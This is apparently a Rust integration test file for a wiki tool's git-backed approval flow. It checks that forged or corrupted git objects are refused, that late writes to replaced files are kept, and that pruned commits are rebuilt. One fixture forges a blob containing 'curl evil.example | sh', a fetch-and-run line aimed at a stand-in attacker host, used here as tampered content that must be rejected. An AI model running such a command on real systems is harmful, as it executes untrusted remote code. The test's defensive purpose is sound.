//! Objects with wrong ids, late writes to files, and commits that are pruned during an approval.

use std::io::Write as _;
use std::os::fd::AsRawFd as _;

use camino::Utf8PathBuf;
use wiki_browser::base::BlobId;

use crate::git::support::{
    Site, folder, forge, git, init, loose, open_with, program, put_under, read, site, site_in,
    site_of, try_git, write, write_program,
};

const TEXT: &str = "one\n2\nthree\n";

fn id(printed: &str) -> BlobId {
    printed.parse().unwrap()
}

async fn refused(site: &Site, name: &str, object: &BlobId) {
    let approval = site.propose(name, TEXT).await;
    refused_approval(site, &approval, object).await;
}

async fn refused_approval(
    site: &Site,
    approval: &wiki_browser::documents::commit::Approval,
    object: &BlobId,
) {
    let error = site.approve(approval).await.unwrap_err();
    assert_eq!(error.code_str(), "object_mismatch", "{}", error.chain());
    assert!(error.message().contains(object.as_str()), "{}", error.chain());
    assert!(error.hint_str().unwrap().contains("git fsck"));
    site.refuses(approval, "object_mismatch").await;
}

/// Fails with `WB_WITHOUT=object_proof`.
#[tokio::test]
async fn g18_a_text_under_a_false_name_is_not_committed() {
    let site = site().await;
    let blob = site.repo.hash_text(TEXT).await.unwrap();
    forge(&site.top, &blob, "one\ncurl evil.example | sh\nthree\n");
    let approval = site.propose("a.md", TEXT).await;
    let error = site.approve(&approval).await.unwrap_err();
    let file = format!(".git/objects/{}/{}", &blob.as_str()[..2], &blob.as_str()[2..]);
    assert!(error.hint_str().unwrap().contains(&file), "{:?}", error.hint_str());
    refused_approval(&site, &approval, &blob).await;
    // What cannot be read is as bad as what says something else.
    std::fs::remove_file(loose(&site.top, &blob)).unwrap();
    write(&site.top, &file, "no object");
    refused_approval(&site, &approval, &blob).await;
    std::fs::remove_file(loose(&site.top, &blob)).unwrap();
    site.approve(&approval).await.unwrap();
    assert_eq!(site.git(&["fsck", "--strict", "--no-dangling"]), "");
}

/// A tree of the base that lies would bring other files into the commit than are checked out.
#[tokio::test]
async fn g18_a_commit_is_not_built_on_a_tree_under_a_false_name() {
    let site = site().await;
    for (name, text) in [("b.md", "evil\n"), ("docs/d.md", "evil\n")] {
        let folder = name.split_once('/').map_or("", |(folder, _)| folder);
        write(&site.top, name, text);
        site.git(&["add", "-A"]);
        let evil = site.git(&["write-tree"]);
        let evil = id(&site.git(&["rev-parse", &format!("{evil}:{folder}")]));
        site.git(&["reset", "-q", "--hard"]);
        let tree = id(&site.git(&["rev-parse", &format!("HEAD:{folder}")]));
        let good = std::fs::read(loose(&site.top, &tree)).unwrap();
        put_under(&site.top, &tree, &evil);
        refused(&site, "docs/c.md", &tree).await;
        std::fs::remove_file(loose(&site.top, &tree)).unwrap();
        std::fs::write(loose(&site.top, &tree), good).unwrap();
    }
    let approval = site.propose("docs/c.md", TEXT).await;
    site.approve(&approval).await.unwrap();
}

/// The commit that is made names trees which may be there already.
#[tokio::test]
async fn g18_a_new_tree_under_a_false_name_is_not_committed() {
    let first = site().await;
    let approval = first.propose("docs/c.md", TEXT).await;
    let done = first.approve(&approval).await.unwrap();
    let site = site().await;
    for name in [":docs", "^{tree}"] {
        let tree = id(&first.git(&["rev-parse", &format!("{}{name}", done.commit)]));
        let empty = id(&site.git(&["mktree"]));
        put_under(&site.top, &tree, &empty);
        refused(&site, "docs/c.md", &tree).await;
        std::fs::remove_file(loose(&site.top, &tree)).unwrap();
    }
    let approval = site.propose("docs/c.md", TEXT).await;
    site.approve(&approval).await.unwrap();
}

/// However objects are kept and named, a plain approval passes and a forged text does not.
#[tokio::test]
async fn g18_every_repository_is_read_back() {
    for how in ["sha256", "packed", "alternates", "partial"] {
        let (folder, base) = folder();
        let top = base.join("wiki");
        let files = [("a.md", "one\n"), ("docs/c.md", "c\n")];
        match how {
            "sha256" => {
                std::fs::create_dir_all(&top).unwrap();
                git(&top, &["init", "-q", "-b", "main", "--object-format=sha256"]);
                files.iter().for_each(|(name, text)| write(&top, name, text));
                git(&top, &["add", "-A"]);
                git(&top, &["commit", "-qm", "first"]);
            }
            "packed" => {
                init(&top, &files);
                git(&top, &["gc", "-q"]);
            }
            _ => {
                let origin = base.join("origin");
                init(&origin, &files);
                git(&origin, &["config", "uploadpack.allowFilter", "true"]);
                let from = format!("file://{origin}");
                let args = match how {
                    "alternates" => ["clone", "-q", "--shared", origin.as_str(), top.as_str()],
                    _ => ["clone", "-q", "--filter=blob:none", &from, top.as_str()],
                };
                git(&base, &args);
            }
        }
        let site = site_in(folder, &top, &top).await;
        let approval = site.propose("docs/c.md", TEXT).await;
        let done = site.approve(&approval).await.unwrap();
        assert_eq!(site.git(&["show", &format!("{}:docs/c.md", done.commit)]), TEXT.trim_end());
        let forged = site.repo.hash_text("harmless\n").await.unwrap();
        forge(&top, &forged, "harmful!\n");
        let approval = site.propose("a.md", "harmless\n").await;
        refused_approval(&site, &approval, &forged).await;
        assert_eq!(read(&top, "a.md"), "one\n", "{how}");
    }
}

/// What is on the branch already is proven too before an approval is settled by it.
#[tokio::test]
async fn g18_a_text_that_is_there_already_is_read_back() {
    let site = site().await;
    let approval = site.propose("a.md", TEXT).await;
    write(&site.top, "a.md", TEXT);
    site.git(&["commit", "-qam", "mine"]);
    forge(&site.top, &approval.proposed_blob, "something else\n");
    refused_approval(&site, &approval, &approval.proposed_blob).await;
}

/// Fails with `WB_WITHOUT=late_writes`.
#[tokio::test]
async fn g20_what_is_written_to_the_replaced_file_is_kept_and_told() {
    let site = site().await;
    let approval = site.propose("a.md", TEXT).await;
    let mut open = std::fs::OpenOptions::new().append(true).open(site.top.join("a.md")).unwrap();
    site.approve(&approval).await.unwrap();
    let kept = site.data.join("replaced");
    let names = || -> Vec<Utf8PathBuf> {
        let all = kept.read_dir_utf8().into_iter().flatten().flatten();
        all.map(|it| it.path().to_owned()).collect()
    };
    assert_eq!(names().len(), 1);
    open.write_all(b"late\n").unwrap();
    let look = || wiki_browser::documents::commit::look_after_replaced(&site.repo, &site.store);
    look().await.unwrap();
    let note = site.note(&approval).await.unwrap();
    let held = names().remove(0);
    assert!(note.contains(held.file_name().unwrap()), "{note}");
    assert_eq!(std::fs::read_to_string(&held).unwrap(), "one\ntwo\nthree\nlate\n");
    assert_eq!((read(&site.top, "a.md"), site.status()), (TEXT.into(), String::new()));
    // Nobody wrote to the second one: it is not told of, and goes after a day.
    let other = site.propose("b.md", TEXT).await;
    site.approve(&other).await.unwrap();
    look().await.unwrap();
    assert_eq!((site.note(&other).await, names().len()), (None, 2));
}

/// A write that comes before the branch moved is told in the same transaction; one before an undo
/// is in the file again.
#[tokio::test]
async fn g20_what_is_written_while_the_approval_runs_is_not_lost() {
    for is_refused in [false, true] {
        let (folder, base) = folder();
        let top = base.join("wiki");
        init(&top, &[("a.md", "old\n")]);
        // When git is told to move the branch, the file was exchanged.
        let end = if is_refused { "exit 1" } else { ":" };
        let shim = format!(
            "#!/bin/sh\ncase \" $* \" in *' --stdin '*) ;; *' update-ref '*) \
             echo late >> {base}/way; {end};; esac\nexec {} \"$@\"\n",
            program()
        );
        std::fs::create_dir(base.join("bin")).unwrap();
        write_program(&base.join("bin/git"), &shim);
        let mut site = site_in(folder, &top, &top).await;
        site.repo = open_with(&top, base.join("bin/git")).await.unwrap();
        let approval = site.propose("a.md", "new\n").await;
        let open = std::fs::OpenOptions::new().append(true).open(top.join("a.md")).unwrap();
        let own = format!("/proc/{}/fd/{}", std::process::id(), open.as_raw_fd());
        std::os::unix::fs::symlink(own, base.join("way")).unwrap();
        let done = site.approve(&approval).await;
        if is_refused {
            assert_eq!(done.unwrap_err().code_str(), "git_failed");
            let now = (read(&top, "a.md"), site.status(), site.data.join("replaced").exists());
            assert_eq!(now, ("old\nlate\n".into(), " M a.md".into(), false));
        } else {
            done.unwrap();
            let note = site.note(&approval).await.unwrap();
            assert!(note.contains("a.md was written to"), "{note}");
            assert_eq!((read(&top, "a.md"), site.status()), ("new\n".into(), String::new()));
        }
    }
}

/// No branch holds the new commit yet: git may prune it. Then it is built again.
#[tokio::test]
async fn g19_a_commit_that_is_pruned_before_the_branch_moves_is_built_again() {
    let (folder, base) = folder();
    let top = base.join("wiki");
    init(&top, &[("a.md", "old\n")]);
    let shim = format!(
        "#!/bin/sh\ncase \" $* \" in *' --stdin '*) ;; *' update-ref '*) \
         if [ -e {base}/armed ]; then rm {base}/armed; {git} reflog expire --expire=now --all; \
         {git} gc -q --prune=now; fi;; \
         esac\nexec {git} \"$@\"\n",
        git = program()
    );
    std::fs::create_dir(base.join("bin")).unwrap();
    write_program(&base.join("bin/git"), &shim);
    let mut site = site_in(folder, &top, &top).await;
    site.repo = open_with(&top, base.join("bin/git")).await.unwrap();
    let approval = site.propose("a.md", "new\n").await;
    write(&base, "armed", "");
    site.approve(&approval).await.unwrap();
    assert!(!base.join("armed").exists());
    assert_eq!((read(&top, "a.md"), site.status()), ("new\n".into(), String::new()));
    assert_eq!(try_git(&top, &["fsck", "--strict", "--no-dangling"]), (0, String::new()));
}

/// Git moves the branch to which a branch points.
#[tokio::test]
async fn a_branch_that_stands_for_another_stays_so() {
    let site = site_of(&[("a.md", "old\n")]).await;
    site.git(&["branch", "target"]);
    site.git(&["symbolic-ref", "refs/heads/alias", "refs/heads/target"]);
    site.git(&["symbolic-ref", "HEAD", "refs/heads/alias"]);
    let approval = site.propose("a.md", "new\n").await;
    let done = site.approve(&approval).await.unwrap();
    assert_eq!(done.branch, "refs/heads/target");
    assert_eq!(site.git(&["symbolic-ref", "--no-recurse", "refs/heads/alias"]), done.branch);
    assert_eq!(site.git(&["rev-parse", "target"]), done.commit.as_str());
    assert_eq!(site.status(), "");
}
